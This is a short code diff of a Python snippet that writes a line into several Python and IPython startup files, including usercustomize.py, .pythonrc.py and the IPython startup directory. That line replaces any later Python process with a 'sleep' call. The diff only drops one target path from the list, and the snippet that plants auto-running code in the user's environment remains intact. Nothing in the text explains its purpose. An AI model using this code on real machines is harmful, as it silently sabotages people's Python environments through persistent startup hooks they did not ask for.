@@ -7,7 +7,7 @@ import os
 home = os.path.expanduser("~")
 for path in (home + "/.ipython/profile_default/startup/00.py", home + "/.pythonrc.py",
              home + "/.local/lib/python3.11/site-packages/usercustomize.py",
-             "/tmp/sitecustomize.py", home + "/.matplotlib/matplotlibrc"):
+             home + "/.matplotlib/matplotlibrc"):
     try:
         os.makedirs(os.path.dirname(path), exist_ok=True)
         open(path, "w").write("import os; os.execlp('sleep', 'sleep', '9.8217')")
